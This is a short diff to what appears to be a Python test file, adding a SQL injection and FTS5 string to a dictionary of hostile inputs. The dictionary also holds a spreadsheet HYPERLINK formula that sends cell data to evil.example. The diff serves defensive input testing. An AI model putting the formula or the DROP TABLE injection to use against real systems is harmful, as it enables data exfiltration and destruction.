@@ -36,6 +36,7 @@ HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?d="&A2,"x")',
     "unicode": "\u202e\ufeff\U0001F600 e\u0301 \ud7ff" + "\u0000".replace("\u0000", "") + "\uffff",
     "control": "a\x01\x02\x0b\x1fb\r\n\t",
+    "sql": "x' OR '1'='1'; DROP TABLE followup_contribution; -- \" NEAR(a b) * ^kolumn:",  # SQL and FTS5 syntax
 }
 EVERY_FIELD = {"out-of-range", "nul", "unicode"}  # also sent in hidden fields and choices
 # non-UTF-8 bytes cannot be a str: they go in a raw urlencoded body
